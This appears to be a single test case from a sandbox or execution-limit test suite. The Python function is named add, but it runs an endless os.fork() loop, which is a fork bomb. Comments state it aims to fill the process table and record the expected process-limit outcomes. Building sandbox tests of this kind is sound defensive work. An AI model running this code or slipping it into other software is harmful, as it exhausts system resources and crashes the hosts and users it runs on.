# 53: a fork bomb
# tries: to fill the table of processes
# isolated-oracle: process-limit
# in-process: process-limit | failed
# limits: cpu=5 wall=20
import os


def add(a, b):
    while True:
        os.fork()
